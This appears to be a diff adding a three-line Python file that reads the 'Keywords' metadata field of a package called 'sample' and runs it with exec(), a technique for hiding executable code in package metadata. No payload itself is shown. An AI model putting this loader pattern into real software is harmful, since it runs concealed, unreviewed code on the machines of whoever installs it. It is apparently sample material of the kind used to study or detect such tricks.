@@ -1,0 +1,3 @@
+from importlib.metadata import metadata
+
+exec(metadata("sample")["Keywords"])
